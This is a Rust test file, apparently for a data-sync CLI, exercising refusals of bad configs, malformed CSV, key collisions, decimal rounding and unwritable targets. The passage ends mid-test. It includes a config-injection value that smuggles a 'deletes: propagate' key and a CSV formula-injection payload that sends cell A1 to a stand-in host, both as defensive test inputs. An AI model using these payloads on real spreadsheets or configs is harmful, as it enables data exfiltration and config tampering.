//! The adversarial suite (issue 8): one test per class of bad input or misconfiguration, each
//! driving the real binary. Every case checks the exit code, the result and that nothing was
//! written where the contract promises nothing is.

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use syncctl_testkit::cli::CliRun;

/// A temporary directory holding a sync config, its files and its state store.
struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new() -> Self {
        Self {
            dir: tempfile::tempdir().unwrap(),
        }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn write(&self, rel: &str, text: &str) -> PathBuf {
        let p = self.path(rel);
        std::fs::write(&p, text).unwrap();
        p
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.path(rel)).unwrap()
    }

    /// The binary with a clean environment, run in the world's directory.
    fn cmd(&self) -> Command {
        let mut cmd = Command::cargo_bin("syncctl").unwrap();
        cmd.env_clear()
            .env("NO_COLOR", "1")
            .env("USER", "tester")
            .current_dir(self.dir.path());
        cmd
    }

    fn run(&self, args: &[&str], env: &[(&str, &str)]) -> CliRun {
        let mut cmd = self.cmd();
        cmd.args(args);
        for (k, v) in env {
            cmd.env(k, v);
        }
        CliRun::from_output(&cmd.output().unwrap())
    }

    fn sync(&self, args: &[&str]) -> CliRun {
        let mut all = vec!["sync"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--config", "sync.yaml"]);
        self.run(&all, &[])
    }
}

/// A CSV → CSV sync of people keyed by email, state next to the config.
fn csv_pair_config(name: &str, source: &str, target: &str) -> String {
    format!(
        r#"name: {name}
source: {{connector: csv, path: "{source}"}}
target: {{connector: csv, path: "{target}"}}
key: {{source: email, target: email}}
fields:
  - {{source: email, target: email}}
  - {{source: name, target: name}}
direction: bidirectional
conflict_strategy: source_wins
state: "sqlite://state.db"
"#
    )
}

fn assert_exit(r: &CliRun, code: i32) {
    assert_eq!(r.code, code, "result: {}\nstderr:\n{}", r.result, r.stderr);
}

fn unchanged(path: &Path, before: &str) {
    assert_eq!(
        std::fs::read_to_string(path).unwrap(),
        before,
        "{} was written",
        path.display()
    );
}

// ---- 4. `${VAR}` interpolation is applied to parsed values, literally --------------------

#[test]
fn interpolated_values_holding_quotes_cannot_change_the_config_structure() {
    let w = World::new();
    // A file name holding a quote, a comma and a colon: as text it broke (or rewrote) the
    // YAML around it; as a value it is just a name.
    let odd = "we\"ird, name: x.csv";
    w.write(odd, "email,name\nada@example.com,Ada\n");
    w.write("target.csv", "email,name\n");
    w.write(
        "sync.yaml",
        &csv_pair_config("interp", "${SRC}", "${DST:-target.csv}"),
    );
    let r = w.run(&["sync", "run", "--config", "sync.yaml"], &[("SRC", odd)]);
    assert_exit(&r, 0);
    assert!(w.read("target.csv").contains("ada@example.com,Ada"));

    // A value that would add a key when pasted as text is refused as nothing but a bad path.
    let w = World::new();
    w.write("target.csv", "email,name\n");
    w.write(
        "sync.yaml",
        &csv_pair_config("interp2", "${SRC}", "target.csv"),
    );
    let r = w.run(
        &["sync", "run", "--config", "sync.yaml"],
        &[("SRC", "x.csv\", deletes: propagate, y: \"")],
    );
    assert_exit(&r, 2);
    let msg = r.result["error"]["message"].as_str().unwrap();
    assert!(!msg.contains("unknown field"), "{msg}");
    unchanged(&w.path("target.csv"), "email,name\n");
}

// ---- 1. A state store bound to other endpoints -----------------------------------------

#[test]
fn a_state_store_built_for_other_endpoints_is_refused_until_rebound() {
    let w = World::new();
    w.write("people.csv", "email,name\nada@example.com,Ada\n");
    w.write("crm1.csv", "email,name\n");
    w.write(
        "sync.yaml",
        &csv_pair_config("bound", "people.csv", "crm1.csv"),
    );
    assert_exit(&w.sync(&["run"]), 0);

    // The same sync name (and state) pointed at another "CRM" holding other people.
    let other = "email,name\nbob@example.com,Bob\n";
    w.write("crm2.csv", other);
    w.write(
        "sync.yaml",
        &csv_pair_config("bound", "people.csv", "crm2.csv"),
    );
    let source_before = w.read("people.csv");
    for cmd in ["run", "plan", "check"] {
        let r = w.sync(&[cmd]);
        assert_exit(&r, 2);
        assert_eq!(r.error_class(), Some("config"));
        assert_eq!(r.result["error"]["retryable"], false);
        let msg = r.result["error"]["message"].as_str().unwrap();
        assert!(
            msg.contains("different binding")
                && msg.contains("crm1.csv")
                && msg.contains("--rebind"),
            "{msg}"
        );
        unchanged(&w.path("crm2.csv"), other);
        unchanged(&w.path("people.csv"), &source_before);
    }

    // A deliberate move: rebound with a warning, then runs normally.
    let r = w.sync(&["run", "--rebind"]);
    assert_exit(&r, 0);
    let warnings = r.result["warnings"].to_string();
    assert!(warnings.contains("rebound"), "{warnings}");
    assert_exit(&w.sync(&["run"]), 0);

    // A changed field mapping is a different binding too.
    w.write(
        "sync.yaml",
        &csv_pair_config("bound", "people.csv", "crm2.csv")
            .replace("  - {source: name, target: name}\n", ""),
    );
    let r = w.sync(&["run"]);
    assert_exit(&r, 2);
    assert!(
        r.result["error"]["message"]
            .as_str()
            .unwrap()
            .contains("field mapping")
    );
}

// ---- 3. Malformed CSV is refused whole ----------------------------------------------------

#[test]
fn malformed_csv_is_refused_whole_with_the_line_and_nothing_is_written() {
    for (bad, line) in [
        // An unterminated quote used to swallow the next row into a multi-line name.
        (
            "email,name\nada@example.com,\"Ada\nbob@example.com,Bob\n",
            "line 2",
        ),
        // Ragged rows used to be padded or cut.
        (
            "email,name\nada@example.com,Ada,extra\nbob@example.com,Bob\n",
            "line 2",
        ),
        (
            "email,name\nada@example.com,Ada\nbob@example.com\n",
            "line 3",
        ),
    ] {
        let w = World::new();
        w.write("people.csv", bad);
        let crm = "email,name\ncyd@example.com,Cyd\n";
        w.write("crm.csv", crm);
        w.write(
            "sync.yaml",
            &csv_pair_config("malformed", "people.csv", "crm.csv"),
        );
        let r = w.sync(&["run"]);
        assert_exit(&r, 2);
        let msg = r.result["error"]["message"].as_str().unwrap();
        assert!(
            msg.contains("not valid CSV") && msg.contains(line),
            "{bad:?}: {msg}"
        );
        unchanged(&w.path("people.csv"), bad);
        unchanged(&w.path("crm.csv"), crm);
    }
}

// ---- 5. Every exit-2 refusal happens before the first write -----------------------------

#[test]
fn the_mass_delete_guard_refuses_before_anything_is_created() {
    let w = World::new();
    let people: String = (0..10)
        .map(|i| format!("p{i}@example.com,P{i}\n"))
        .collect();
    w.write("people.csv", &format!("email,name\n{people}"));
    w.write("crm.csv", "email,name\n");
    w.write(
        "sync.yaml",
        &format!(
            "{}deletes: propagate\n",
            csv_pair_config("guard", "people.csv", "crm.csv")
        ),
    );
    assert_exit(&w.sync(&["run"]), 0);
    // Half the people vanish from the source while a new one appears.
    let rest: String = (5..10)
        .map(|i| format!("p{i}@example.com,P{i}\n"))
        .collect();
    w.write(
        "people.csv",
        &format!("email,name\n{rest}new@example.com,New\n"),
    );
    let crm_before = w.read("crm.csv");
    let r = w.sync(&["run"]);
    assert_exit(&r, 2);
    assert!(
        r.result["error"]["message"]
            .as_str()
            .unwrap()
            .contains("mass-delete guard"),
        "{}",
        r.result
    );
    unchanged(&w.path("crm.csv"), &crm_before);
    assert!(!w.read("crm.csv").contains("new@example.com"));
}

// ---- 7. `conflicts resolve --keep VALUES.json` is checked against the mapping and rules --

#[test]
fn resolution_values_of_unknown_fields_wrong_types_or_broken_rules_are_refused() {
    let w = World::new();
    w.write("people.csv", "email,name\nada@example.com,Ada\n");
    w.write("crm.csv", "email,name\n");
    w.write(
        "sync.yaml",
        &(csv_pair_config("resolve", "people.csv", "crm.csv").replace(
            "conflict_strategy: source_wins",
            "conflict_strategy: manual",
        ) + "validation:\n  name: [{max_length: 10}]\n"),
    );
    assert_exit(&w.sync(&["run"]), 0);
    w.write("people.csv", "email,name\nada@example.com,Ada Source\n");
    w.write("crm.csv", "email,name\nada@example.com,Ada Target\n");
    let r = w.sync(&["run"]);
    assert_exit(&r, 0);
    let list = w.run(&["sync", "conflicts", "list", "--config", "sync.yaml"], &[]);
    let id = list.result["data"]["conflicts"][0]["id"].as_i64().unwrap();
    let resolve = |values: &str| {
        w.write("values.json", values);
        w.run(
            &[
                "sync",
                "conflicts",
                "resolve",
                &id.to_string(),
                "--keep",
                "values.json",
                "--config",
                "sync.yaml",
            ],
            &[],
        )
    };
    for (values, why) in [
        (r#"{"name": 42}"#, "must be text"),
        (r#"{"name": "Ada", "nmae": "x"}"#, "not in conflict"),
        (r#"{"name": "Ada Augusta King"}"#, "name"),
    ] {
        let r = resolve(values);
        assert_exit(&r, 2);
        let msg = r.result["error"]["message"].as_str().unwrap();
        assert!(msg.contains(why), "{values}: {msg}");
    }
    // Nothing was recorded: the conflict is still open.
    let list = w.run(&["sync", "conflicts", "list", "--config", "sync.yaml"], &[]);
    assert_eq!(list.result["data"]["conflicts"][0]["status"], "open");
    assert_exit(&resolve(r#"{"name": "Ada King"}"#), 0);
}

// ---- 13. Input size caps --------------------------------------------------------------------

#[test]
fn endless_or_huge_inputs_are_refused_with_a_clear_error() {
    let w = World::new();
    for args in [
        vec![
            "--env-file",
            "/dev/zero",
            "sync",
            "check",
            "--config",
            "sync.yaml",
        ],
        vec!["sync", "run", "--config", "/dev/zero"],
    ] {
        let r = w.run(&args, &[]);
        assert_exit(&r, 2);
        let msg = r.result["error"]["message"].as_str().unwrap();
        assert!(msg.contains("larger than 1048576 bytes"), "{args:?}: {msg}");
    }
    // A 2 MB sync name: refused without being echoed (the result line stays small).
    let w = World::new();
    w.write("people.csv", "email,name\n");
    w.write("crm.csv", "email,name\n");
    let long = "n".repeat(200_000);
    w.write(
        "sync.yaml",
        &csv_pair_config(&long, "people.csv", "crm.csv"),
    );
    let r = w.sync(&["run"]);
    assert_exit(&r, 2);
    assert!(r.stdout.len() < 4096, "result is {} bytes", r.stdout.len());
    assert!(
        r.result["error"]["message"]
            .as_str()
            .unwrap()
            .contains("at most 128")
    );
}

// ---- 8, 9. The result file is never put where it replaces something; undelivered = not 0 --

fn planning_world() -> World {
    let w = World::new();
    w.write("people.csv", "email,name\nada@example.com,Ada\n");
    w.write("crm.csv", "email,name\n");
    w.write(
        "sync.yaml",
        &csv_pair_config("deliver", "people.csv", "crm.csv"),
    );
    w
}

#[test]
fn result_files_are_written_through_symlinks_and_read_only_files_are_never_replaced() {
    use std::os::unix::fs::PermissionsExt;
    let w = planning_world();
    std::fs::create_dir(w.path("real")).unwrap();
    std::os::unix::fs::symlink(w.path("real/result.json"), w.path("link.json")).unwrap();
    w.write("real/result.json", "old\n");
    let r = w.run(
        &[
            "--result-file",
            "link.json",
            "sync",
            "plan",
            "--config",
            "sync.yaml",
        ],
        &[],
    );
    assert_exit(&r, 0);
    assert!(
        std::fs::symlink_metadata(w.path("link.json"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert!(
        w.read("real/result.json")
            .contains("\"status\":\"planned\"")
    );

    // A read-only file is not ours to replace: refused, and the exit code says so.
    let ro = w.write("ro.json", "keep me\n");
    std::fs::set_permissions(&ro, std::fs::Permissions::from_mode(0o444)).unwrap();
    let r = w.run(
        &[
            "--result-file",
            "ro.json",
            "sync",
            "plan",
            "--config",
            "sync.yaml",
        ],
        &[],
    );
    assert_ne!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.result["exit_code"], r.code);
    // The line agrees with the exit code: not "planned"/"succeeded" with exit code 1.
    assert_eq!(r.result["status"], "failed", "{}", r.result);
    assert!(
        r.result["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("could not write the result file")),
        "{}",
        r.result
    );
    assert!(
        r.stderr.contains("could not write the result file"),
        "{}",
        r.stderr
    );
    unchanged(&ro, "keep me\n");

    // A result file that cannot be created at all.
    let r = w.run(
        &[
            "--result-file",
            "/proc/no/such/dir/r.json",
            "sync",
            "plan",
            "--config",
            "sync.yaml",
        ],
        &[],
    );
    assert_ne!(r.code, 0);
}

#[test]
fn a_result_that_cannot_reach_stdout_is_a_failure_with_a_message() {
    let w = planning_world();
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let out = std::process::Command::new(assert_cmd::cargo::cargo_bin("syncctl"))
        .env_clear()
        .current_dir(w.dir.path())
        .args(["sync", "plan", "--config", "sync.yaml"])
        .stdout(full)
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(0));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("could not write the result to stdout"),
        "{stderr}"
    );
}

// ---- 12. A state store that cannot work is a permanent error, never "retry me" ---------------

#[test]
fn a_corrupt_state_store_is_a_config_error_that_is_not_retryable() {
    let w = World::new();
    w.write("people.csv", "email,name\nada@example.com,Ada\n");
    let crm = "email,name\n";
    w.write("crm.csv", crm);
    w.write(
        "sync.yaml",
        &csv_pair_config("corrupt", "people.csv", "crm.csv"),
    );
    // Not a database: what a truncated copy or a stray file at the state path looks like.
    w.write("state.db", &"this is not a SQLite database\n".repeat(200));
    for cmd in ["run", "plan", "check", "history"] {
        let r = w.sync(&[cmd]);
        assert_exit(&r, 2);
        assert_eq!(r.error_class(), Some("config"), "{cmd}: {}", r.result);
        assert_eq!(r.result["error"]["retryable"], false, "{cmd}");
        unchanged(&w.path("crm.csv"), crm);
    }
}

// ---- 8. A CSV side is written through symlinks and never replaced when it is not ours ------

#[test]
fn csv_targets_are_written_through_symlinks_and_read_only_ones_refused_before_any_write() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let w = World::new();
    w.write("people.csv", "email,name\nada@example.com,Ada\n");
    std::fs::create_dir(w.path("real")).unwrap();
    w.write("real/crm.csv", "email,name\n");
    std::os::unix::fs::symlink(w.path("real/crm.csv"), w.path("crm.csv")).unwrap();
    w.write(
        "sync.yaml",
        &csv_pair_config("files", "people.csv", "crm.csv"),
    );
    let r = w.sync(&["run"]);
    assert_exit(&r, 0);
    assert!(
        std::fs::symlink_metadata(w.path("crm.csv"))
            .unwrap()
            .file_type()
            .is_symlink(),
        "the link was replaced by a file"
    );
    assert!(w.read("real/crm.csv").contains("ada@example.com,Ada"));

    // A file of another owner is rewritten in place: it keeps its owner and mode.
    let real = w.path("real/crm.csv");
    std::os::unix::fs::chown(&real, Some(4242), Some(4242)).unwrap();
    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o664)).unwrap();
    w.write(
        "people.csv",
        "email,name\nada@example.com,Ada\nbob@example.com,Bob\n",
    );
    let r = w.sync(&["run"]);
    assert_exit(&r, 0);
    let meta = std::fs::metadata(&real).unwrap();
    assert_eq!((meta.uid(), meta.gid()), (4242, 4242), "owner changed");
    assert_eq!(meta.mode() & 0o777, 0o664);
    assert!(w.read("real/crm.csv").contains("bob@example.com,Bob"));

    // A read-only target is a config error before anything is written on either side.
    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o444)).unwrap();
    w.write(
        "people.csv",
        "email,name\nada@example.com,Ada Lovelace\nbob@example.com,Bob\ncy@example.com,Cy\n",
    );
    let people = w.read("people.csv");
    let crm = w.read("real/crm.csv");
    for args in [&["check"][..], &["run"][..]] {
        let r = w.sync(args);
        assert_exit(&r, 2);
        let msg = r.result["error"]["message"].as_str().unwrap_or_default();
        assert!(msg.contains("accepts no writes"), "{args:?}: {msg}");
        unchanged(&real, &crm);
        unchanged(&w.path("people.csv"), &people);
    }
    // One way from it is fine: a read-only file may be a source.
    let r = w.run(
        &[
            "sync",
            "run",
            "--config",
            "sync.yaml",
            "--direction",
            "target_to_source",
        ],
        &[],
    );
    assert_exit(&r, 0);
    unchanged(&real, &crm);
}

// ---- Real databases for the classes that depend on a server's own semantics -----------------

/// A MariaDB database of its own (dropped at the end) on the local server.
struct MariaDb {
    pool: sqlx::MySqlPool,
    db: String,
}

impl MariaDb {
    async fn new(tag: &str) -> Self {
        let url = crate::support::mysql_url();
        let pool = sqlx::MySqlPool::connect(&url)
            .await
            .expect("MariaDB must be running (scripts/ensure-services.sh)");
        let db = format!(
            "safety_{tag}_{}",
            &uuid::Uuid::new_v4().simple().to_string()[..10]
        );
        let d = Self { pool, db };
        d.exec("CREATE DATABASE $D").await;
        d
    }

    fn url(&self) -> String {
        format!("mysql://root@127.0.0.1:3306/{}", self.db)
    }

    async fn exec(&self, sql: &str) {
        let sql = sql.replace("$D", &format!("`{}`", self.db));
        sqlx::raw_sql(sqlx::AssertSqlSafe(sql.clone()))
            .execute(&self.pool)
            .await
            .unwrap_or_else(|e| panic!("{sql}: {e}"));
    }

    /// `SELECT CAST(a AS CHAR), CAST(b AS CHAR) … ORDER BY 1` as rows of optional text.
    async fn rows(&self, sql: &str) -> Vec<Vec<Option<String>>> {
        use sqlx::Row;
        let sql = sql.replace("$D", &format!("`{}`", self.db));
        sqlx::query(sqlx::AssertSqlSafe(sql))
            .fetch_all(&self.pool)
            .await
            .unwrap()
            .iter()
            .map(|r| {
                (0..r.len())
                    .map(|i| r.get::<Option<String>, _>(i))
                    .collect()
            })
            .collect()
    }

    async fn drop(self) {
        self.exec("DROP DATABASE $D").await;
    }
}

fn counts(r: &CliRun, side: &str) -> (u64, u64) {
    let c = &r.result["data"][side];
    (
        c["created"].as_u64().unwrap_or(99),
        c["updated"].as_u64().unwrap_or(99),
    )
}

// ---- 2. Keys the target holds to be equal are refused before writing --------------------

#[tokio::test]
async fn keys_equal_under_a_case_insensitive_collation_are_refused_per_record_and_reruns_converge()
{
    let d = MariaDb::new("ci").await;
    d.exec(
        "CREATE TABLE $D.people (id INT AUTO_INCREMENT PRIMARY KEY, \
         email VARCHAR(100) NOT NULL UNIQUE, name VARCHAR(100))",
    )
    .await;
    let w = World::new();
    // Record 1 and 2 differ only in case and a trailing space: one row to MariaDB's
    // utf8mb4_general_ci unique index.
    w.write(
        "people.csv",
        "id,email,name\n1,bob@x.com,Bob\n2,Bob@x.com ,Bobby\n3,ann@x.com,Ann\n",
    );
    w.write(
        "sync.yaml",
        &format!(
            r#"name: collide
source: {{connector: csv, path: people.csv}}
target: {{connector: mysql, url: "{}", object: people}}
key: {{source: email, target: email}}
fields:
  - {{source: email, target: email}}
  - {{source: name, target: name}}
direction: bidirectional
conflict_strategy: source_wins
state: "sqlite://state.db"
"#,
            d.url()
        ),
    );
    let stored = "SELECT CAST(email AS CHAR), CAST(name AS CHAR) FROM $D.people ORDER BY id";
    let r = w.sync(&["run"]);
    assert_eq!(counts(&r, "target"), (2, 0), "{}", r.result);
    let rejected = &r.result["data"]["rejected"];
    assert_eq!(rejected.as_array().map(Vec::len), Some(1), "{}", r.result);
    assert_eq!(rejected[0]["record"], "source:2");
    let why = rejected[0]["reasons"][0].as_str().unwrap_or_default();
    assert!(why.contains("is the same as \"bob@x.com\""), "{why}");
    let first = d.rows(stored).await;
    assert_eq!(
        first,
        vec![
            vec![Some("bob@x.com".into()), Some("Bob".into())],
            vec![Some("ann@x.com".into()), Some("Ann".into())],
        ]
    );
    let people = w.read("people.csv");
    for _ in 0..2 {
        let again = w.sync(&["run"]);
        assert!(again.code == 0 || again.code == 1, "{}", again.result);
        assert_eq!(counts(&again, "target"), (0, 0), "{}", again.result);
        assert_eq!(counts(&again, "source"), (0, 0), "{}", again.result);
        assert_eq!(again.result["data"]["rejected"][0]["record"], "source:2");
        assert_eq!(d.rows(stored).await, first, "no flip-flop");
        unchanged(&w.path("people.csv"), &people);
    }
    d.drop().await;
}

#[tokio::test]
async fn keys_equal_under_sqlite_nocase_are_refused_per_record() {
    let w = World::new();
    let opts = sqlx::sqlite::SqliteConnectOptions::new()
        .filename(w.path("crm.db"))
        .create_if_missing(true);
    let pool = sqlx::SqlitePool::connect_with(opts).await.unwrap();
    sqlx::raw_sql(
        "CREATE TABLE people (id INTEGER PRIMARY KEY, \
         email TEXT NOT NULL UNIQUE COLLATE NOCASE, name TEXT)",
    )
    .execute(&pool)
    .await
    .unwrap();
    w.write(
        "people.csv",
        "id,email,name\n1,ann@x.com,Ann\n2,ANN@X.COM,Annie\n",
    );
    w.write(
        "sync.yaml",
        r#"name: nocase
source: {connector: csv, path: people.csv}
target: {connector: sqlite, url: "sqlite://crm.db", object: people}
key: {source: email, target: email}
fields:
  - {source: email, target: email}
  - {source: name, target: name}
direction: source_to_target
state: "sqlite://state.db"
"#,
    );
    for run in 0..2 {
        let r = w.sync(&["run"]);
        assert_eq!(counts(&r, "target"), (1 - run, 0), "{}", r.result);
        assert_eq!(r.result["data"]["rejected"][0]["record"], "source:2");
        let rows: Vec<(String, String)> =
            sqlx::query_as("SELECT email, name FROM people ORDER BY id")
                .fetch_all(&pool)
                .await
                .unwrap();
        assert_eq!(rows, vec![("ann@x.com".to_owned(), "Ann".to_owned())]);
    }
    pool.close().await;
}

// ---- 6. Values the target would change on write are refused before writing --------------

/// A PostgreSQL schema of its own (dropped at the end) on the local server.
struct Postgres {
    pool: sqlx::PgPool,
    schema: String,
}

impl Postgres {
    async fn new(tag: &str) -> Self {
        let url = crate::support::pg_url();
        let pool = sqlx::PgPool::connect(&url)
            .await
            .expect("PostgreSQL must be running (scripts/ensure-services.sh)");
        let schema = format!(
            "safety_{tag}_{}",
            &uuid::Uuid::new_v4().simple().to_string()[..10]
        );
        let p = Self { pool, schema };
        p.exec("CREATE SCHEMA $S").await;
        p
    }

    async fn exec(&self, sql: &str) {
        let sql = sql.replace("$S", &format!("\"{}\"", self.schema));
        sqlx::raw_sql(sqlx::AssertSqlSafe(sql.clone()))
            .execute(&self.pool)
            .await
            .unwrap_or_else(|e| panic!("{sql}: {e}"));
    }

    async fn rows(&self, sql: &str) -> Vec<(String, String)> {
        let sql = sql.replace("$S", &format!("\"{}\"", self.schema));
        sqlx::query_as(sqlx::AssertSqlSafe(sql))
            .fetch_all(&self.pool)
            .await
            .unwrap()
    }
}

/// Syncs `sku,amount` rows into a `numeric(12,2)` column and checks that a value the column
/// would round (or overflow) is refused per record with the reason, the others are written,
/// and reruns neither write nor report read-back mismatches.
async fn decimals_the_column_would_round_are_refused(
    connector: &str,
    url: &str,
    object: &str,
    stored: impl AsyncFn() -> Vec<(String, String)>,
) {
    let w = World::new();
    w.write(
        "prices.csv",
        "sku,amount\na,1.5\nb,0.005\nc,12345678901\nd,-7.10\n",
    );
    w.write(
        "sync.yaml",
        &format!(
            r#"name: digits
source: {{connector: csv, path: prices.csv}}
target: {{connector: {connector}, url: "{url}", object: {object}}}
key: {{source: sku, target: sku}}
fields:
  - {{source: sku, target: sku}}
  - {{source: amount, target: amount}}
direction: source_to_target
state: "sqlite://state.db"
"#
        ),
    );
    let want = vec![
        ("a".to_owned(), "1.50".to_owned()),
        ("d".to_owned(), "-7.10".to_owned()),
    ];
    for run in 0..3 {
        let r = w.sync(&["run"]);
        let created = if run == 0 { 2 } else { 0 };
        assert_eq!(
            counts(&r, "target"),
            (created, 0),
            "{connector}: {}",
            r.result
        );
        let failed = r.result["data"]["failed"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        let errors: Vec<&str> = failed.iter().filter_map(|f| f["error"].as_str()).collect();
        assert_eq!(errors.len(), 2, "{connector}: {}", r.result);
        assert!(
            errors
                .iter()
                .any(|e| e.contains("0.005 has 3 decimal places")),
            "{errors:?}"
        );
        assert!(
            errors
                .iter()
                .any(|e| e.contains("11 digits before the decimal point")),
            "{errors:?}"
        );
        let text = r.result.to_string();
        assert!(!text.contains("mismatch"), "{connector}: {text}");
        assert_eq!(stored().await, want, "{connector}: run {run}");
    }
}

#[tokio::test]
async fn decimals_a_postgres_numeric_column_would_round_are_refused_and_never_loop() {
    let pg = Postgres::new("digits").await;
    pg.exec("CREATE TABLE $S.prices (id bigserial PRIMARY KEY, sku text NOT NULL UNIQUE, amount numeric(12,2))")
        .await;
    let url = crate::support::pg_url();
    let object = format!("{}.prices", pg.schema);
    decimals_the_column_would_round_are_refused("postgres", &url, &object, async || {
        pg.rows("SELECT sku, amount::text FROM $S.prices ORDER BY sku")
            .await
    })
    .await;
    pg.exec("DROP SCHEMA $S CASCADE").await;
}

#[tokio::test]
async fn decimals_a_mariadb_decimal_column_would_round_are_refused_and_never_loop() {
    let d = MariaDb::new("digits").await;
    d.exec("CREATE TABLE $D.prices (id INT AUTO_INCREMENT PRIMARY KEY, sku VARCHAR(20) NOT NULL UNIQUE, amount DECIMAL(12,2))")
        .await;
    decimals_the_column_would_round_are_refused("mysql", &d.url(), "prices", async || {
        d.rows("SELECT CAST(sku AS CHAR), CAST(amount AS CHAR) FROM $D.prices ORDER BY sku")
            .await
            .into_iter()
            .map(|r| {
                (
                    r[0].clone().unwrap_or_default(),
                    r[1].clone().unwrap_or_default(),
                )
            })
            .collect()
    })
    .await;
    d.drop().await;
}

// ---- 10. Formula-like text is written into CSV files behind a quote, and reads back --------

#[test]
fn formula_like_values_are_guarded_in_csv_files_and_reruns_do_not_flip() {
    let w = World::new();
    let evil = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")";
    w.write(
        "people.csv",
        &format!(
            "email,name\nada@example.com,\"{}\"\nbob@example.com,-5\ncy@example.com,@cy\n",
            evil.replace('"', "\"\"")
        ),
    );
    w.write("crm.csv", "email,name\n");
    w.write(
        "sync.yaml",
        &csv_pair_config("formulas", "people.csv", "crm.csv"),
    );
    let r = w.sync(&["run"]);
    assert_exit(&r, 0);
    assert_eq!(counts(&r, "target"), (3, 0), "{}", r.result);
    let crm = w.read("crm.csv");
    assert!(
        crm.contains(&format!(
            "ada@example.com,\"'{}\"",
            evil.replace('"', "\"\"")
        )),
        "{crm}"
    );
    assert!(
        crm.contains("bob@example.com,-5\n"),
        "numbers are not mangled: {crm}"
    );
    assert!(crm.contains("cy@example.com,'@cy\n"), "{crm}");
    let people = w.read("people.csv");
    for _ in 0..2 {
        let again = w.sync(&["run"]);
        assert_exit(&again, 0);
        assert_eq!(counts(&again, "target"), (0, 0), "{}", again.result);
        assert_eq!(counts(&again, "source"), (0, 0), "{}", again.result);
        unchanged(&w.path("crm.csv"), &crm);
        unchanged(&w.path("people.csv"), &people);
    }

    // `formula_guard: off` writes values verbatim (a file read by programs).
    let w2 = World::new();
    w2.write("people.csv", "email,name\ncy@example.com,@cy\n");
    w2.write("crm.csv", "email,name\n");
    w2.write(
        "sync.yaml",
        &csv_pair_config("verbatim", "people.csv", "crm.csv").replace(
            r#"path: "crm.csv"}"#,
            r#"path: "crm.csv", formula_guard: "off"}"#,
        ),
    );
    assert_exit(&w2.sync(&["run"]), 0);
    assert_eq!(w2.read("crm.csv"), "email,name\ncy@example.com,@cy\n");
}

// ---- 11. A failed run is recorded as failed, with its error -------------------------------

#[test]
fn a_run_that_fails_after_the_state_store_opened_is_recorded_as_failed_with_its_error() {
    let w = World::new();
    w.write("people.csv", "email,name\nada@example.com,Ada\n");
    w.write("crm.csv", "email,name\n");
    let good = csv_pair_config("failing", "people.csv", "crm.csv");
    w.write(
        "sync.yaml",
        &good.replace(
            "{source: name, target: name}",
            "{source: nmae, target: name}",
        ),
    );
    let r = w.sync(&["run"]);
    assert_exit(&r, 2);
    let run_id = r.result["run_id"].as_str().unwrap_or_default().to_owned();
    let h = w.sync(&["history"]);
    assert_exit(&h, 0);
    let last = &h.result["data"]["runs"][0];
    assert_eq!(last["status"], "failed", "{}", h.result);
    assert_eq!(last["run"], run_id.as_str());
    let err = last["error"].as_str().unwrap_or_default();
    assert!(err.starts_with("config: ") && err.contains("nmae"), "{err}");
    assert!(last["finished_at"].is_string());
    let s = w.run(&["sync", "show", &run_id, "--config", "sync.yaml"], &[]);
    assert_exit(&s, 0);
    assert_eq!(s.result["data"]["run"]["status"], "failed");

    // The next run does not mistake it for a killed one.
    w.write("sync.yaml", &good);
    let r = w.sync(&["run"]);
    assert_exit(&r, 0);
    assert!(r.result["data"]["recovered_runs"].is_null(), "{}", r.result);
    let warnings = r.result["warnings"].to_string();
    assert!(!warnings.contains("interrupted"), "{warnings}");
}

#[test]
fn a_run_whose_credentials_are_refused_is_recorded_as_failed_with_the_auth_class() {
    let w = World::new();
    w.write("people.csv", "email,name\nada@example.com,Ada\n");
    w.write(
        "sync.yaml",
        &csv_pair_config("refused", "people.csv", "crm.csv").replace(
            r#"target: {connector: csv, path: "crm.csv"}"#,
            r#"target: {connector: mysql, url: "mysql://nosuchuser_safety:wrong@127.0.0.1:3306/test", object: people}"#,
        ),
    );
    let r = w.sync(&["run"]);
    assert_exit(&r, 3);
    let h = w.sync(&["history"]);
    let last = &h.result["data"]["runs"][0];
    assert_eq!(last["status"], "failed", "{}", h.result);
    let err = last["error"].as_str().unwrap_or_default();
    assert!(err.starts_with("auth: "), "{err}");
    assert!(
        !h.stdout.contains("wrong@") && !h.stdout.contains(":wrong"),
        "{}",
        h.stdout
    );
}

// ---- 14. What is logged as a warning is in the result's warnings ---------------------------

#[test]
fn rows_a_csv_side_skips_are_a_warning_in_the_result_not_only_in_the_log() {
    let w = World::new();
    w.write("people.csv", "email,name\nada@example.com,Ada\n,Nobody\n");
    w.write("crm.csv", "email,name\n");
    w.write(
        "sync.yaml",
        &csv_pair_config("skips", "people.csv", "crm.csv"),
    );
    let r = w.sync(&["run"]);
    assert_exit(&r, 0);
    let warnings = r.result["warnings"].to_string();
    assert!(
        warnings.contains("skipped 1 row(s) with an empty email"),
        "{warnings}"
    );
    assert!(r.stderr.contains("Skipped CSV rows with an empty key"));

    // A config error is not announced as a finished sync first.
    w.write(
        "sync.yaml",
        &csv_pair_config("skips", "people.csv", "crm.csv").replace("source: name", "source: nmae"),
    );
    let r = w.sync(&["run"]);
    assert_exit(&r, 2);
    assert!(!r.stderr.contains("Sync finished"), "{}", r.stderr);

    // A parser library's advice is not the user's: a repeated key says what to do in the file.
    w.write(
        "sync.yaml",
        &format!(
            "name: again\n{}",
            csv_pair_config("skips", "people.csv", "crm.csv")
        ),
    );
    let r = w.sync(&["check"]);
    assert_exit(&r, 2);
    let msg = r.result["error"]["message"].as_str().unwrap_or_default();
    assert!(
        msg.contains("duplicate mapping key: name") && msg.contains("remove or merge"),
